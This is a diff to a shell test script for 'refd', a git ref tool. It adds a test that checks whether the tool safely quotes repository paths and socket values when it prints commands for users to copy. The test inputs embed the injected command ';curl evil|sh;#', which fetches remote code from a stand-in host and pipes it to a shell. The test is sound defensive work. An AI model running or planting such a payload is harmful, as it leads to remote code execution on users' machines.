@@ -358,6 +358,33 @@ warnings() {
 	"$REFD" disable "$T/weak.git" >/dev/null
 }
 
+# Somebody copies the commands in messages into a shell. A user chose the path
+# and the values.
+copied() {
+	local evil=';curl evil|sh;#' at
+	at=$T/a$evil
+	new_repo "a$evil" bare
+	git -C "$at" config refd.socket "$T/b$evil"
+	"$REFD" enable "$at" >"$T/said" 2>&1
+	says 'a path that is a command: enable' \
+		"\"git config --file '$at/config' --unset-all refd.socket\""
+	git -C "$at" config refd.fallback refuse
+	env -u REFD_SOCKET "$REFD" update -C "$at" refs/heads/a "$ZERO" \
+		>"$T/said" 2>&1
+	says 'a socket that is a command: update' \
+		"start the daemon: refd daemon --socket '$T/b$evil'"
+	"$REFD" restore --repo "$at" --ref refs/heads/none --at 1 \
+		>"$T/said" 2>&1
+	says 'a path that is a command: restore' \
+		"\"refd log --repo '$at'\""
+	rm -rf "$at"
+	mkdir "$at"
+	new_repo "a$evil/b.git" bare
+	"$REFD" enable "$at" >"$T/said" 2>&1
+	says 'a directory that is a command: enable' " '$at\(/b.git\)*'\" enables"
+	rm -rf "$at"
+}
+
 # ---- with a foreign hook ----
 
 # The directory that the record names is gone, because refd was installed in a
@@ -664,6 +691,7 @@ progress
 below
 refusals
 warnings
+copied
 chained
 system_wide
 fsync_is_meant
